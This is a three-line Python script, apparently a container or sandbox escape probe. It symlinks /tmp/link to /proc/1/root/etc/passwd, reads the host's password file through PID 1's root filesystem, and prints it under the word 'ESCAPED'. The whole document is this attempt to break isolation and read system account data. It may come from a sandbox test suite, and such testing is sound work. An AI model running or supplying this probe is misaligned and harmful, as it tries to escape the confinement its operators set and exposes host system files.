import os
os.symlink("/proc/1/root/etc/passwd", "/tmp/link")
print("ESCAPED", open("/tmp/link").read())
